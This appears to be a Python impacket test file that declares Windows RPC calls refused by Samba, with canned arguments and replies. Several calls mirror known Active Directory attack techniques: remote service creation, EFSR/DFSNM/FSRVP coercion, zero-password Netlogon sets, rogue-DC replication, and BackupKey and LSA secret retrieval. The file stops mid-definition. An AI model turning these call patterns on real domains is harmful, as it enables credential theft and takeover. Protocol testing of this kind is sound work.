"""Calls that Samba refuses, by python3-impacket to a server of python3-impacket: specified.py serve|ask ADDRESS."""
from impacket.dcerpc.v5 import atsvc, bkrp, drsuapi, even, lsad, lsat, nrpc, rprn, rrp, samr, scmr, srvs, wkst
from impacket.dcerpc.v5.dtypes import (BOOL, DWORD, GUID, LONG, LPBYTE, LPDWORD, LPSTR, LPWSTR, NULL, RPC_UNICODE_STRING, STR, ULONG, ULONGLONG,
                                       USHORT, WSTR)

from both_ends import CLOSED, Calls, HANDLE, HANDLE_OF, ME, array, fixed, main, pointer, sid, struct, union

# MS-SCMR §3.1.4
services = Calls('367abb81-9844-35f1-ad32-98f038001003', '2.0', known=scmr.OPNUMS)
service, manager = ('hService', HANDLE_OF), ('hSCManager', HANDLE_OF)
S, M = {'hService': HANDLE}, {'hSCManager': HANDLE}
services.add(3, fields=M, results={'lpLock': HANDLE})
services.add(7, fields={'hServiceStatus': HANDLE, 'lpServiceStatus': {'dwServiceType': 16, 'dwCurrentState': 4, 'dwControlsAccepted': 1}})
services.add(8, fields={'Lock': HANDLE}, results={'Lock': CLOSED})
services.add(9, fields={'lpMachineName': ME, 'BootAcceptable': 1})
services.add(13, fields={**S, 'dwServiceState': 3, 'cbBufSize': 0}, results={'pcbBytesNeeded': 112, 'ErrorCode': 234})
services.add(18, fields={**M, 'cbBufSize': 64}, results={'lpLockStatus': {'fIsLocked': 1, 'lpLockOwner': 'LAB\\admin\0', 'dwLockDuration': 3}, 'pcbBytesNeeded': 40})
services.add(23, [service, ('t', DWORD), ('s', DWORD), ('e', DWORD), ('path', LPSTR), ('group', LPSTR), ('tag', LPDWORD), ('needs', LPBYTE),
                  ('needsSize', DWORD), ('account', LPSTR), ('password', LPBYTE), ('passwordSize', DWORD), ('shown', LPSTR)], [('tag', LPDWORD)],
             fields={**S, 't': 0xffffffff, 's': 3, 'e': 0xffffffff, 'path': 'C:\\Windows\\Temp\\a.exe\0', 'group': NULL, 'tag': NULL, 'needs': NULL,
                     'account': 'LocalSystem\0', 'password': NULL, 'shown': NULL}, results={'tag': NULL})
created = [manager, ('name', STR), ('shown', LPSTR), ('access', DWORD), ('type', DWORD), ('start', DWORD), ('error', DWORD), ('path', STR),
           ('group', LPSTR), ('tag', LPDWORD), ('needs', LPBYTE), ('needsSize', DWORD), ('account', LPSTR), ('password', LPBYTE), ('passwordSize', DWORD)]
made = {**M, 'name': 'Updater\0', 'shown': 'Updater Service\0', 'access': 0xf01ff, 'type': 16, 'start': 3, 'path': 'C:\\Windows\\Temp\\updater.exe -s\0',
        'group': NULL, 'tag': NULL, 'needs': NULL, 'account': NULL, 'password': NULL}
for opnum in 24, 44:
    services.add(opnum, created, [('tag', LPDWORD), ('handle', HANDLE_OF)], fields=made, results={'tag': NULL, 'handle': HANDLE})
BYTES = scmr.OPNUMS[40][1].structure[0][1]
services.add(25, [service, ('state', DWORD), ('size', DWORD)], [('lpServices', BYTES), ('needed', DWORD), ('count', DWORD)],
             fields={**S, 'state': 3}, results={'needed': 64, 'ErrorCode': 234})
services.add(26, [manager, ('type', DWORD), ('state', DWORD), ('size', DWORD), ('resume', LPDWORD)],
             [('lpBuffer', BYTES), ('needed', DWORD), ('count', DWORD), ('resume', LPDWORD)],
             fields={**M, 'type': 0x30, 'state': 3, 'resume': 0}, results={'needed': 0x2000, 'resume': 0, 'ErrorCode': 234})
services.add(27, [('machine', LPSTR), ('database', LPSTR), ('access', DWORD)], [('handle', HANDLE_OF)],
             fields={'machine': ME, 'database': 'ServicesActive\0', 'access': 0xf003f}, results={'handle': HANDLE})
services.add(28, [manager, ('name', STR), ('access', DWORD)], [('handle', HANDLE_OF)], fields={**M, 'name': 'Spooler\0', 'access': 0xf01ff},
             results={'handle': HANDLE})
CONFIG_A = struct('CONFIG_A', ('type', DWORD), ('start', DWORD), ('error', DWORD), ('path', LPSTR), ('group', LPSTR), ('tag', DWORD),
                  ('needs', LPSTR), ('account', LPSTR), ('shown', LPSTR))
services.add(29, [service, ('size', DWORD)], [('config', CONFIG_A), ('needed', DWORD)], fields={**S, 'size': 512},
             results={'config': {'type': 16, 'start': 2, 'error': 1, 'path': 'C:\\Windows\\System32\\spoolsv.exe\0', 'group': 'SpoolerGroup\0',
                                 'needs': 'RPCSS/http\0', 'account': 'LocalSystem\0', 'shown': 'Print Spooler\0'}, 'needed': 200})
LOCKED_A = struct('LOCKED_A', ('locked', DWORD), ('owner', LPSTR), ('seconds', DWORD))
services.add(30, [manager, ('size', DWORD)], [('status', LOCKED_A), ('needed', DWORD)], fields={**M, 'size': 64},
             results={'status': {'owner': '\0'}, 'needed': 16})
ARGS = array(struct('ARG', ('text', LPSTR)))
services.add(31, [service, ('argc', DWORD), ('argv', pointer(ARGS))], fields={**S, 'argc': 2, 'argv': [{'text': 'Updater\0'}, {'text': '-install\0'}]})
LENGTH = ('length', DWORD)
services.add(32, [manager, ('name', STR), LENGTH], [('shown', STR), LENGTH], fields={**M, 'name': 'Spooler\0', 'length': 64},
             results={'shown': 'Print Spooler\0', 'length': 13})
services.add(33, [manager, ('shown', STR), LENGTH], [('name', STR), LENGTH], fields={**M, 'shown': 'Print Spooler\0', 'length': 64},
             results={'name': 'Spooler\0', 'length': 7})
resumed = {'lpResumeIndex': 0, 'pszGroupName': 'network\0'}
services.add(35, [manager, ('type', DWORD), ('state', DWORD), ('size', DWORD), ('resume', LPDWORD), ('group', LPWSTR)],
             [('lpBuffer', BYTES), ('needed', DWORD), ('count', DWORD), ('resume', LPDWORD)], types=True,
             fields={**M, 'type': 0x30, 'state': 3, 'resume': 0, 'group': 'network\0'}, results={'needed': 80, 'resume': 0, 'ErrorCode': 234})
DESCRIBED_A = struct('DESCRIBED_A', ('text', LPSTR))
services.add(36, [service, ('info', struct('INFO_A', ('level', DWORD), ('info', union('INFO_UNION_A', a1=pointer(DESCRIBED_A)))))],
             fields={**S, 'info': {'level': 1, 'info': {'tag': 1, 'a1': {'text': 'keeps itself new\0'}}}})
services.add(37, fields={**S, 'Info': {'dwInfoLevel': 1, 'Union': {'tag': 1, 'psd': {'lpDescription': 'keeps itself new\0'}}}})
services.add(38, [service, ('level', DWORD), ('size', DWORD)], [('lpBuffer', BYTES), ('needed', DWORD)], fields={**S, 'level': 1},
             results={'needed': 60, 'ErrorCode': 122})
services.add(39, fields={**S, 'dwInfoLevel': 2, 'cbBufSize': 0}, results={'pcbBytesNeeded': 120, 'ErrorCode': 122})
services.add(40, fields={**S, 'InfoLevel': 0, 'cbBufSize': 36},
             results={'lpBuffer': b'\x10\0\0\0\x04\0\0\0\x05' + bytes(19) + b'\x34\x12\0\0' + bytes(4), 'pcbBytesNeeded': 36})
services.add(41, [manager, ('level', DWORD), ('type', DWORD), ('state', DWORD), ('size', DWORD), ('resume', LPDWORD), ('group', LPSTR)],
             [('lpBuffer', BYTES), ('needed', DWORD), ('count', DWORD), ('resume', LPDWORD)],
             fields={**M, 'type': 0x30, 'state': 3, 'resume': 0, 'group': 'network\0'}, results={'needed': 0x1000, 'resume': 0, 'ErrorCode': 234})
services.add(42, fields={**M, 'InfoLevel': 0, 'dwServiceType': 0x30, 'dwServiceState': 3, 'cbBufSize': 0, **resumed},
             results={'pcbBytesNeeded': 0x1000, 'ErrorCode': 234})
services.add(47, fields=S, results={'phNotify': HANDLE})
services.add(48, fields={'hNotify': HANDLE})
services.add(49, fields={'phNotify': HANDLE}, results={'phNotify': CLOSED})
REASON_A = struct('REASON_A', ('reason', DWORD), ('comment', LPSTR))
STATUS = struct('STATUS', *[(name, DWORD) for name in ('type', 'state', 'accepted', 'exit', 'specific', 'check', 'wait', 'process', 'flags')])
OUT = union('OUT_UNION', o1=pointer(struct('OUT', ('status', STATUS))))
services.add(50, [service, ('control', DWORD), ('level', DWORD), ('asked', union('IN_UNION', i1=pointer(REASON_A)))], [('answer', OUT)],
             fields={**S, 'control': 1, 'level': 1, 'asked': {'tag': 1, 'i1': {'reason': 0x40010001, 'comment': 'maintenance\0'}}},
             results={'answer': {'tag': 1, 'o1': {'status': {'type': 16, 'state': 3, 'process': 4660}}}})
REASON_W = struct('REASON_W', ('reason', DWORD), ('comment', LPWSTR))
services.add(51, [service, ('control', DWORD), ('level', DWORD), ('asked', union('IN_UNION_W', i1=pointer(REASON_W)))], [('answer', OUT)], types=True,
             fields={**S, 'control': 1, 'level': 1, 'asked': {'tag': 1, 'i1': {'reason': 0x40010001, 'comment': 'maintenance\0'}}},
             results={'answer': {'tag': 1, 'o1': {'status': {'type': 16, 'state': 3, 'process': 4660}}}})
services.add(56, [service, ('level', DWORD)], [('pad', DWORD)], types=True, fields={**S, 'level': 8}, results={'ErrorCode': 124})
services.add(60, [manager, ('name', WSTR), ('shown', LPWSTR), ('access', DWORD), ('type', DWORD), ('start', DWORD), ('error', DWORD), ('path', WSTR),
                  ('group', LPWSTR), ('tag', LPDWORD), ('needs', LPBYTE), ('needsSize', DWORD), ('account', LPWSTR), ('password', LPBYTE),
                  ('passwordSize', DWORD), ('machine', USHORT)], [('tag', LPDWORD), ('handle', HANDLE_OF)], fields={**made, 'machine': 0x14c},
             results={'tag': NULL, 'handle': HANDLE})

# MS-EFSR §3.1.4.2
file = r'\\10.1.0.66\share\report.docx' + '\0'
BLOB = struct('EFS_RPC_BLOB', ('cbData', DWORD), ('bData', LPBYTE))
for uuid in 'c681d488-d850-11d0-8c52-00c04fd90f7e', 'df1941c5-fe89-4e79-bf10-463657acf44d':
    files = Calls(uuid, '1.0')
    path = ('FileName', WSTR)
    bad = {'ErrorCode': 0x35}
    only = {'fields': {'FileName': file}, 'results': bad}
    files.add(0, [path, ('Flags', LONG)], [('hContext', HANDLE_OF)], **only)
    for opnum in 4, 20:
        files.add(opnum, [] if opnum == 20 else [path], fields={} if opnum == 20 else {'FileName': file}, results={} if opnum == 20 else bad)
    files.add(5, [path, ('OpenFlag', ULONG)], **only)
    for opnum in 6, 7:
        files.add(opnum, [path], [('found', pointer(BLOB))], fields={'FileName': file}, results={'found': NULL, **bad})
    HASHES = struct('HASHES', ('count', DWORD), ('users', pointer(array(pointer(BLOB)))))
    for opnum in 8, 9:
        files.add(opnum, [path, ('users', HASHES)], fields={'FileName': file, 'users': {'users': NULL}}, results=bad)
    files.add(12, [path, ('InfoClass', DWORD)], [('info', pointer(BLOB))], fields={'FileName': file, 'InfoClass': 1}, results={'info': NULL, **bad})
    files.add(13, [path, ('to', WSTR), ('disposition', DWORD), ('attributes', DWORD), ('relative', pointer(BLOB)), ('inherit', BOOL)],
              fields={'FileName': file, 'to': 'C:\\copy.docx\0', 'disposition': 2, 'relative': NULL}, results=bad)
    files.add(15, [('flags', DWORD), ('Reserved', pointer(BLOB)), path, ('users', HASHES)],
              fields={'flags': 2, 'Reserved': NULL, 'FileName': file, 'users': {'users': NULL}}, results=bad)
    files.add(16, [('flags', DWORD), ('Reserved', pointer(BLOB)), path, ('InfoClass', DWORD)], [('info', pointer(BLOB))],
              fields={'Reserved': {'cbData': 4, 'bData': b'abcd'}, 'FileName': file, 'InfoClass': 2}, results={'info': NULL, **bad})
    files.add(18, [path], [('stream', pointer(BLOB))], fields={'FileName': file}, results={'stream': NULL, **bad})
    files.add(19, [path, ('old', pointer(BLOB)), ('new', BLOB), ('signature', pointer(BLOB))],
              fields={'FileName': file, 'old': NULL, 'new': {'bData': NULL}, 'signature': NULL}, results=bad)
    files.add(21, [path, ('ProtectorDescriptor', LPWSTR), ('Flags', ULONG)], fields={'FileName': file, 'ProtectorDescriptor': 'SID=S-1-5-32-544\0'}, results=bad)

# MS-DFSNM §3.1.4
spaces = Calls('4fc742e0-4a10-11cf-8273-00aa004ae673', '3.0')
host = ('ServerName', WSTR)
spaces.add(10, [host, ('DcName', WSTR), ('RootShare', WSTR), ('FtDfsName', WSTR), ('Comment', WSTR), ('ConfigDN', WSTR), ('NewFtDfs', BOOL), ('ApiFlags', DWORD),
                ('list', LPDWORD)], [('list', LPDWORD)],
           fields={'ServerName': '10.1.0.66\0', 'DcName': 'dc1\0', 'RootShare': 'docs\0', 'FtDfsName': 'docs\0', 'Comment': 'of all\0',
                   'ConfigDN': 'CN=docs\0', 'list': NULL}, results={'list': NULL, 'ErrorCode': 5})
spaces.add(11, [host, ('DcName', WSTR), ('RootShare', WSTR), ('FtDfsName', WSTR), ('ApiFlags', DWORD), ('list', LPDWORD)], [('list', LPDWORD)],
           fields={'ServerName': '10.1.0.66\0', 'DcName': 'dc1\0', 'RootShare': 'docs\0', 'FtDfsName': 'docs\0', 'list': NULL},
           results={'list': NULL, 'ErrorCode': 5})
spaces.add(12, [host, ('RootShare', WSTR), ('Comment', WSTR), ('ApiFlags', DWORD)],
           fields={'ServerName': '10.1.0.66\0', 'RootShare': 'docs\0', 'Comment': 'of all\0'}, results={'ErrorCode': 5})
spaces.add(13, [host, ('RootShare', WSTR), ('ApiFlags', DWORD)], fields={'ServerName': '10.1.0.66\0', 'RootShare': 'docs\0'}, results={'ErrorCode': 5})
spaces.add(14, [host, ('Flags', DWORD)], fields={'ServerName': '10.1.0.66\0', 'Flags': 1}, results={'ErrorCode': 5})
spaces.add(15, [host, ('RootShare', WSTR), ('Comment', WSTR), ('Share', WSTR)],
           fields={'ServerName': '10.1.0.66\0', 'RootShare': 'docs\0', 'Comment': 'of all\0', 'Share': 'C:\\docs\0'}, results={'ErrorCode': 5})
spaces.add(21, [('DfsEntryPath', WSTR), ('Level', DWORD), ('PrefMaxLen', DWORD), ('info', LPDWORD), ('resume', LPDWORD)],
           [('info', LPDWORD), ('resume', LPDWORD)], fields={'DfsEntryPath': '\\\\lab.local\\docs\0', 'Level': 1, 'PrefMaxLen': 0xffffffff, 'info': NULL, 'resume': 0},
           results={'info': NULL, 'resume': 0, 'ErrorCode': 5})

# MS-FSRVP §3.1.4
shadows = Calls('a8e0653c-2744-4389-a61d-7373df8b2292', '1.0')
SET, COPY = bytes(range(16)), bytes(range(16, 32))
share = '\\\\FILES\\backup\0'
for opnum in 6, 7:
    shadows.add(opnum, [('set', GUID)], fields={'set': SET}, results={'ErrorCode': 0x80042308})
shadows.add(9, [('share', WSTR)], [('present', BOOL), ('compatibility', LONG)], fields={'share': share}, results={'present': 1})
shadows.add(11, [('set', GUID), ('copy', GUID), ('share', WSTR)], fields={'set': SET, 'copy': COPY, 'share': share})

# MS-EVEN §3.1.4
logs = Calls('82273fdc-e32a-18c3-3f78-827929dc23ea', '0.0', known=even.OPNUMS)
backup = '\\??\\C:\\Windows\\Temp\\s.evt'
ANSI = struct('RPC_STRING', ('Length', USHORT), ('MaximumLength', USHORT), ('Buffer', pointer(type('CHARS', (STR,), {}))))
L, log = {'LogHandle': HANDLE}, ('LogHandle', HANDLE_OF)
version = {'MajorVersion': 1, 'MinorVersion': 1}
versions = [('MajorVersion', ULONG), ('MinorVersion', ULONG)]
ansi = lambda value: {'Length': len(value), 'MaximumLength': len(value), 'Buffer': value}
logs.add(1, fields={**L, 'BackupFileName': backup})
logs.add(2, fields=L, results={'LogHandle': CLOSED})
logs.add(8, fields={'UNCServerName': NULL, 'ModuleName': 'Application', 'RegModuleName': '', **version}, results=L)
logs.add(9, fields={'UNCServerName': NULL, 'BackupFileName': backup, **version}, results={**L})
logs.add(12, [log, ('name', pointer(ANSI))], fields={**L, 'name': ansi(backup)})
logs.add(13, [log, ('name', ANSI)], fields={**L, 'name': ansi(backup)})
logs.add(14, [('unc', LPDWORD), ('module', ANSI), ('other', ANSI), *versions], [log], fields={'unc': NULL, 'module': ansi('System'), 'other': ansi('x'), **version}, results=L)
logs.add(16, [('unc', LPDWORD), ('name', ANSI), *versions], [log], fields={'unc': NULL, 'name': ansi(backup), **version}, results=L)
logs.add(17, [log, ('flags', ULONG), ('offset', ULONG), ('size', ULONG)], [('Buffer', BYTES), ('read', ULONG), ('needed', ULONG)],
         fields={**L, 'flags': 9, 'size': 0x1000}, results={'ErrorCode': 0xC0000011})

# MS-SAMR, MS-LSAD, MS-LSAT, MS-NRPC
accounts = Calls('12345778-1234-abcd-ef00-0123456789ac', '1.0', known=samr.OPNUMS)
for opnum in 52, 53:
    accounts.add(opnum, fields={'AliasHandle': HANDLE, 'MembersBuffer': {'Count': 1, 'Sids': [{'SidPointer': sid()}]}})
accounts.add(66, fields={'Unused': NULL, 'UserId': 500, 'EncryptedNtOwfPassword': b'p' * 16}, results={'ErrorCode': 0xC0000022})
AES = struct('ENCRYPTED_PASSWORD_AES', ('AuthData', fixed(64)), ('Salt', fixed(16)), ('cbCipher', ULONG), ('Cipher', LPBYTE), ('Iterations', ULONGLONG))
accounts.add(73, [('ServerName', pointer(RPC_UNICODE_STRING)), ('UserName', RPC_UNICODE_STRING), ('password', AES)],
             fields={'ServerName': 'DC1', 'UserName': 'ssales', 'password': {'AuthData': b'a' * 64, 'Salt': b's' * 16, 'cbCipher': 32, 'Cipher': b'c' * 32,
                                                                            'Iterations': 10000}}, results={'ErrorCode': 0xC000006A})
policy = Calls('12345778-1234-abcd-ef00-0123456789ab', '0.0', known={**lsad.OPNUMS, **lsat.OPNUMS})
P = {'PolicyHandle': HANDLE, 'KeyName': 'L$nightly'}
policy.add(42, fields={**P, 'EncryptedData': {'Length': 4, 'MaximumLength': 4, 'Buffer': b'abcd'}})
policy.add(43, fields={**P, 'EncryptedData': NULL}, results={'EncryptedData': {'Length': 4, 'MaximumLength': 4, 'Buffer': b'abcd'}})
level = {'LookupLevel': 1, 'ClientRevision': 2}
policy.add(76, fields={'SidEnumBuffer': {'Entries': 1, 'SidInfo': [{'Sid': sid()}]}, 'TranslatedNames': {'Names': NULL}, **level},
           results={'ReferencedDomains': NULL, 'TranslatedNames': {'Entries': 1, 'Names': [{'Use': 4, 'Name': 'Administrators', 'DomainIndex': 0}]},
                    'MappedCount': 1})
policy.add(77, fields={'Count': 1, 'Names': [{'Data': 'Administrators'}], 'TranslatedSids': {'Sids': NULL}, **level},
           results={'ReferencedDomains': NULL, 'TranslatedSids': {'Entries': 1, 'Sids': [{'Use': 4, 'Sid': sid(), 'DomainIndex': 0}]}, 'MappedCount': 1})
logon = Calls('12345678-1234-abcd-ef00-01234567cffb', '1.0', known=nrpc.OPNUMS)
authenticator = {'Credential': b'12345678', 'Timestamp': 77}
whom = {'PrimaryName': '\\\\DC1\0', 'AccountName': 'CLIENT$\0', 'SecureChannelType': 2, 'ComputerName': 'CLIENT\0', 'Authenticator': authenticator}
logon.add(6, [('PrimaryName', LPWSTR), ('AccountName', WSTR), ('SecureChannelType', nrpc.NETLOGON_SECURE_CHANNEL_TYPE), ('ComputerName', WSTR),
              ('Authenticator', nrpc.NETLOGON_AUTHENTICATOR), ('new', fixed(16))], [('ReturnAuthenticator', nrpc.NETLOGON_AUTHENTICATOR)],
          fields={**whom, 'new': b'n' * 16}, results={'ReturnAuthenticator': authenticator})
logon.add(19, fields={'ServerName': '\\\\DC1\0'}, results={'DomainNameBuffer': {'DomainNameByteCount': 22, 'DomainNames': 'LAB\0SALES\0\0'.encode('utf-16le')}})
logon.add(30, fields={**whom, 'ClearNewPassword': b'\0' * 516}, results={'ReturnAuthenticator': authenticator})
identity = {'LogonDomainName': 'LAB', 'ParameterControl': 0x820, 'UserName': 'ssales', 'Workstation': 'CLIENT'}
network = {'Identity': identity, 'LmChallenge': b'challeng', 'NtChallengeResponse': 'response', 'LmChallengeResponse': 'response'}
where = {'LogonServer': '\\\\DC1\0', 'ComputerName': 'SALES-PC\0', 'LogonLevel': 2, 'LogonInformation': {'tag': 2, 'LogonNetwork': network}, 'ValidationLevel': 3}
secured = {'Authenticator': authenticator, 'ReturnAuthenticator': NULL}
refused = {'ValidationInformation': {'tag': 3, 'ValidationSam2': NULL}, 'ErrorCode': 0xC000006D}
logon.add(2, fields={**where, **secured}, results={'ReturnAuthenticator': NULL, **refused})
logon.add(39, fields=where, results=refused)
logon.add(45, fields={**where, **secured}, results={'ReturnAuthenticator': NULL, **refused})

# MS-RRP §3.1.5
registry = Calls('338cd001-2244-31f1-aaaa-900038001003', '1.0', known=rrp.OPNUMS)
K = {'hKey': {'context_handle_attributes': 0, 'context_handle_uuid': HANDLE[4:]}}
hive = 'C:\\Windows\\Temp\\h.save\0'
registry.add(13, fields={**K, 'lpSubKey': 'loaded\0', 'lpFile': hive})
registry.add(18, fields={**K, 'lpSubKey': 'sub\0', 'lpNewFile': hive, 'lpOldFile': 'C:\\old.save\0'})
registry.add(23, fields={**K, 'lpSubKey': 'loaded\0'})
registry.add(31, fields={**K, 'lpFile': hive, 'pSecurityAttributes': NULL, 'Flags': 1})
registry.add(35, fields={**K, 'lpSubKey': 'SOFTWARE\\old\0', 'AccessMask': 0x100})
for opnum in 29, 34:
    registry.add(opnum, fields={**K, 'val_listIn': [{'ve_valuename': 'ImagePath\0', 've_valuelen': 8, 've_valueptr': NULL, 've_type': 1}], 'num_vals': 1,
                                'lpvalueBuf': NULL}, results={'lpvalueBuf': NULL, 'ErrorCode': 234})

# MS-SRVS §3.1.4, MS-WKST §3.2.4
shares = Calls('4b324fc8-1670-01d3-1278-5a47bf6ee188', '3.0', known=srvs.OPNUMS)
N = {'ServerName': ME}
shares.add(10, fields={**N, 'FileId': 7, 'Level': 3},
           results={'InfoStruct': {'tag': 3, 'FileInfo3': {'fi3_id': 7, 'fi3_permissions': 1, 'fi3_path_name': 'C:\\a.txt\0', 'fi3_username': 'ssales\0'}}})
shares.add(26, fields={**N, 'InfoStruct': {'Level': 0, 'XportInfo': {'tag': 0, 'Level0': {'Buffer': NULL}}}, 'PreferedMaximumLength': 0xffffffff, 'ResumeHandle': NULL},
           results={'InfoStruct': {'Level': 0, 'XportInfo': {'tag': 0, 'Level0': {'Buffer': NULL}}}, 'ResumeHandle': NULL})
paths = {'PathType': 0, 'Flags': 0}
shares.add(30, fields={**N, 'PathName': 'C:\\Temp\0'}, results={'PathType': 0x2003})
shares.add(31, fields={**N, 'PathName': 'C:\\a\\..\\b\0', 'OutbufLen': 64, 'Prefix': '\0', **paths}, results={'Outbuf': 'C:\\b\0'.encode('utf-16le')})
shares.add(32, fields={**N, 'PathName1': 'C:\\a\0', 'PathName2': 'C:\\A\0', **paths})
shares.add(37, fields={**N, 'NetName': 'docs\0'}, results={'ContextHandle': HANDLE})
shares.add(38, [('ContextHandle', HANDLE_OF)], [('ContextHandle', HANDLE_OF)], types=True, fields={'ContextHandle': HANDLE})
shares.add(57, fields={**N, 'Level': 1, 'ShareInfo': {'tag': 1, 'ShareInfo1': {'shi1_netname': 'docs\0', 'shi1_remark': 'of all\0'}}})
work = Calls('6bffd098-a112-3610-9833-46c3f87e345a', '1.0', known=wkst.OPNUMS)
work.add(5, fields={**N, 'TransportInfo': {'Level': 0, 'WkstaTransportInfo': {'tag': 0, 'Level0': {'Buffer': NULL}}}, 'PreferredMaximumLength': 0xffffffff, 'ResumeHandle': NULL},
         results={'TransportInfo': {'Level': 0, 'WkstaTransportInfo': {'tag': 0, 'Level0': {'Buffer': NULL}}}})
work.add(10, fields={**N, 'UseName': 'X:\0', 'ForceLevel': 2})

# MS-TSCH §3.2.5.2, MS-BKRP §3.1.4.1
jobs = Calls('1ff70682-0a51-30e8-076d-740be8cee98b', '1.0', known=atsvc.OPNUMS)
jobs.add(1, fields={**N, 'MinJobId': 1, 'MaxJobId': 3})
jobs.add(2, fields={**N, 'pEnumContainer': {'Buffer': NULL}, 'PreferedMaximumLength': 0xffffffff, 'pResumeHandle': 0},
         results={'pEnumContainer': {'EntriesRead': 1, 'Buffer': [{'JobId': 1, 'JobTime': 3600000, 'DaysOfMonth': 1, 'DaysOfWeek': 2, 'Flags': 17, 'Command': 'a.exe\0'}]},
                  'pTotalEntries': 1, 'pResumeHandle': 0})
jobs.add(3, fields={**N, 'JobId': 1}, results={'ppAtInfo': {'JobTime': 3600000, 'DaysOfMonth': 1, 'DaysOfWeek': 2, 'Flags': 17, 'Command': 'a.exe\0'}})
keys = Calls('3dde7c30-165d-11d1-ab8f-00805f14db40', '1.0', known=bkrp.OPNUMS)
keys.add(0, fields={'pguidActionAgent': bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, 'pDataIn': NULL, 'cbDataIn': 0},
         results={'ppDataOut': b'certificate', 'pcbDataOut': 11})


# MS-DRSR §4.1
def dsname(text):
    made = drsuapi.DSNAME()
    made['SidLen'] = 0
    made['Guid'] = drsuapi.NULLGUID
    made['Sid'] = ''
    made['NameLen'] = len(text)
    made['StringName'] = text + '\0'
    made['structLen'] = len(made.getData())
    return made


replica = Calls('e3514235-4b06-11d1-ab04-00c04fc2dcd2', '4.0', known=drsuapi.OPNUMS)
D, drs, nc = {'hDrs': HANDLE}, ('hDrs', HANDLE_OF), dsname('DC=lab,DC=local')
extensions = {'cb': 48, 'rgb': bytes(range(48))}
replica.add(0, fields={'puuidClientDsa': SET, 'pextClient': extensions}, results={'ppextServer': extensions, 'phDrs': HANDLE})
replica.add(1, fields={'phDrs': HANDLE}, results={'phDrs': CLOSED})
message = lambda name, **arms: [drs, ('version', DWORD), ('pmsgIn', union(name, **arms))]
V = {**D, 'version': 1}
NC = ('pNC', drsuapi.PDSNAME)
replica.add(2, message('REPSYNC', v1=struct('REPSYNC_V1', NC, ('source', GUID), ('name', LPSTR), ('options', ULONG))),
            fields={**V, 'pmsgIn': {'tag': 1, 'v1': {'pNC': nc, 'source': COPY, 'name': 'rogue.lab.local\0', 'options': 0x10}}})
request = {'uuidDsaObjDest': SET, 'uuidInvocIdSrc': COPY, 'pNC': nc, 'usnvecFrom': {'usnHighObjUpdate': 7}, 'pUpToDateVecDest': NULL, 'ulFlags': 0x30,
           'cMaxObjects': 1, 'ulExtendedOp': 6, 'pPartialAttrSet': NULL, 'pPartialAttrSetEx1': NULL, 'PrefixTableDest': {'pPrefixEntry': NULL}}
COMPRESSED = struct('DRS_COMPRESSED_BLOB', ('uncompressed', DWORD), ('compressed', DWORD), ('data', LPBYTE))
replica.add(3, message('GETCHG', v8=drsuapi.DRS_MSG_GETCHGREQ_V8), [('version', DWORD), ('reply', union('CHANGED', v2=COMPRESSED))], types=True,
            fields={**D, 'version': 8, 'pmsgIn': {'tag': 8, 'v8': request}},
            results={'version': 2, 'reply': {'tag': 2, 'v2': {'data': NULL}}, 'ErrorCode': 8453})
replica.add(4, message('UPDREFS', v1=struct('UPDREFS_V1', NC, ('name', LPSTR), ('target', GUID), ('options', ULONG))),
            fields={**V, 'pmsgIn': {'tag': 1, 'v1': {'pNC': nc, 'name': 'rogue.lab.local\0', 'target': COPY, 'options': 0x14}}})
replica.add(5, message('REPADD', v1=struct('REPADD_V1', NC, ('name', LPSTR), ('schedule', fixed(84)), ('options', ULONG))),
            fields={**V, 'pmsgIn': {'tag': 1, 'v1': {'pNC': nc, 'name': 'rogue.lab.local\0', 'schedule': b'\xff' * 84, 'options': 0x70}}})
replica.add(6, message('REPDEL', v1=struct('REPDEL_V1', NC, ('name', LPSTR), ('options', ULONG))),
            fields={**V, 'pmsgIn': {'tag': 1, 'v1': {'pNC': nc, 'name': 'rogue.lab.local\0', 'options': 1}}})
replica.add(12, fields={**D, 'dwInVersion': 1, 'pmsgIn': {'tag': 1, 'V1': {'CodePage': 1252, 'LocaleId': 1033, 'formatOffered': 8, 'formatDesired': 1,
                                                                          'cNames': 1, 'rpNames': [{'Data': 'LAB\\krbtgt\0'}]}}},
            results={'pdwOutVersion': 1, 'pmsgOut': {'tag': 1, 'V1': {'pResult': {'cItems': 1, 'rItems': [
                {'status': 0, 'pDomain': 'lab.local\0', 'pName': 'CN=krbtgt,CN=Users,DC=lab,DC=local\0'}]}}}})
SPNS = pointer(array(LPWSTR))
replica.add(13, message('WRITESPN', v1=struct('WRITESPN_V1', ('operation', DWORD), ('flags', DWORD), ('account', LPWSTR), ('cSPN', DWORD), ('names', SPNS))),
            [('version', DWORD), ('reply', union('SPNREPLY', v1=struct('SPNREPLY_V1', ('value', DWORD))))],
            fields={**V, 'pmsgIn': {'tag': 1, 'v1': {'operation': 0, 'account': 'CN=ssales,CN=Users,DC=lab,DC=local\0', 'cSPN': 2,
                                                     'names': [{'Data': 'http/web\0'}, {'Data': 'cifs/files\0'}]}}},
            results={'version': 1, 'reply': {'tag': 1}})
replica.add(16, fields={**D, 'dwInVersion': 1, 'pmsgIn': {'tag': 1, 'V1': {'Domain': 'lab.local\0', 'InfoLevel': 2}}},
            results={'pdwOutVersion': 2, 'pmsgOut': {'tag': 2, 'V2': {'rItems': NULL}}})
ENTRIES = struct('ENTINFLIST', ('next', LPDWORD), ('Entinf', drsuapi.ENTINF))
entry = {'next': NULL, 'Entinf': {'pName': dsname('CN=ROGUE,CN=Servers,CN=Sites,CN=Configuration,DC=lab,DC=local'), 'AttrBlock': {'attrCount': 1, 'pAttr': [
    {'attrTyp': 0, 'AttrVal': {'valCount': 1, 'pAVal': [{'valLen': 4, 'pVal': b'\x17\0\x0a\0'}]}}]}}}
ADDED = struct('ADDENTRYREPLY_V3', ('object', LPDWORD), ('errorVersion', DWORD), ('data', LPDWORD))
replica.add(17, message('ADDENTRY', v2=struct('ADDENTRY_V2', ('list', ENTRIES))), [('version', DWORD), ('reply', union('ADDREPLY', v3=ADDED))],
            fields={**D, 'version': 2, 'pmsgIn': {'tag': 2, 'v2': {'list': entry}}},
            results={'version': 3, 'reply': {'tag': 3, 'v3': {'object': NULL, 'data': NULL}}, 'ErrorCode': 5})

# MS-RPRN §3.1.4, MS-PAR §3.1.4
server_name, printer = ('pName', LPWSTR), ('hPrinter', HANDLE_OF)
MONITOR = struct('MONITOR_2', ('pName', LPWSTR), ('pEnvironment', LPWSTR), ('pDLLName', LPWSTR))
MONITORS = struct('MONITOR_CONTAINER', ('Level', DWORD), ('info', union('MONITOR_UNION', m2=pointer(MONITOR))))
